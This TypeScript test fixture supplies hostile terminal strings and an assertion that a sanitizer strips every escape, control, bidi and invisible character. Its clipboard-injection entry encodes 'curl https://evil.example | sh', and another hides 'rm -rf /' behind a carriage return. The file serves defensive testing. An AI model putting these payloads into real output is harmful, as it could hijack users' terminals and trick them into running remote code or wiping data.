/**
 * Hostile text a server could send, and the one assertion that none of it can act on a terminal.
 * Used by the sanitizer's unit test and by the end-to-end test that feeds these strings through
 * every printing path of the built binary.
 */

import { expect } from 'vitest';

export const HOSTILE = {
  colour: '\u001b[31mred\u001b[0m',
  clearScreen: '\u001b[2J\u001b[H',
  cursorUp: '\u001b[3A\u001b[2K',
  title: '\u001b]0;owned title\u0007',
  title2: '\u001b]2;owned title\u001b\\',
  clipboard: '\u001b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo\u0007',
  hyperlink: '\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\',
  csi8bit: '\u009b31m8bit',
  osc8bit: '\u009d0;owned\u009c',
  bell: 'ding\u0007',
  backspace: 'secret\b\b\b\b\b\bpublic',
  carriageReturn: 'rm -rf /\rls',
  bidi: 'user\u202egnp.exe\u202c \u2066iso\u2069 \u200fmark',
  invisible: 'zero\u200bwidth\u{E0041}',
  dcs: '\u001bP1$r0m\u001b\\',
} as const;

/** All of HOSTILE in one string, around `label` so a test can see the text was printed. */
export function hostile(label: string): string {
  return `${label}${Object.values(HOSTILE).join('')}${label}`;
}

/* eslint-disable no-control-regex -- finding control characters is the point */
const FORBIDDEN: Array<[RegExp, string]> = [
  [/\u001b/, 'ESC'],
  [/[\u0080-\u009f]/, 'a C1 control'],
  [/[\u0000-\u0008\u000b-\u001f\u007f]/, 'a C0 control other than newline and tab'],
  [/[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/, 'a bidi control'],
  [/(?![\u200c\u200d])\p{Cf}/u, 'an invisible format character'],
];
/* eslint-enable no-control-regex */

/** Text printed to a terminal holds nothing the terminal would act on or hide. */
export function expectTerminalSafe(text: string, where = 'output'): void {
  for (const [pattern, name] of FORBIDDEN) {
    const found = pattern.exec(text);
    if (found) {
      const around = JSON.stringify(text.slice(Math.max(0, found.index - 60), found.index + 20));
      expect.fail(`${where} contains ${name} at ${found.index}: …${around}…`);
    }
  }
}
